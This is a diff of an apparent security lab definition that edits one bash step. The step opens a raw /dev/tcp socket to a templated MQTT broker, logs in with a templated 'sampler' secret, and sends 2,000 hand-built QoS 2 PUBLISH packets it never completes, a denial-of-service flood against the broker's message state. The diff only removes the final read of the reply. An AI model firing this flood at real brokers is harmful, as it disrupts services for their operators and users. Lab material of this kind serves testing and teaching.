@@ -143,7 +143,7 @@ export default defineLab({
       tool: 'bash',
       purpose: 'Begin 2,000 messages and finish none: CONNECT and PUBLISH packets of 3.1.1, by hand',
       command:
-        "exec 3<>/dev/tcp/{{host}}/{{port:tcp}}; { printf '\\x10\\x2e\\0\\4MQTT\\4\\xc2\\0\\x3c\\0\\7sampler\\0\\7sampler\\0\\x10%s' '{{secret:sampler}}'; for i in $(seq 2000); do printf -v id '\\\\x%02x\\\\x%02x' $((i >> 8)) $((i & 255)); printf \"\\x34\\x1c\\0\\x18dose/samples/sampler/raw$id\"; done; } >&3; sleep 5; timeout 1 wc -c <&3",
+        "exec 3<>/dev/tcp/{{host}}/{{port:tcp}}; { printf '\\x10\\x2e\\0\\4MQTT\\4\\xc2\\0\\x3c\\0\\7sampler\\0\\7sampler\\0\\x10%s' '{{secret:sampler}}'; for i in $(seq 2000); do printf -v id '\\\\x%02x\\\\x%02x' $((i >> 8)) $((i & 255)); printf \"\\x34\\x1c\\0\\x18dose/samples/sampler/raw$id\"; done; } >&3; sleep 5",
     },
   ],
 
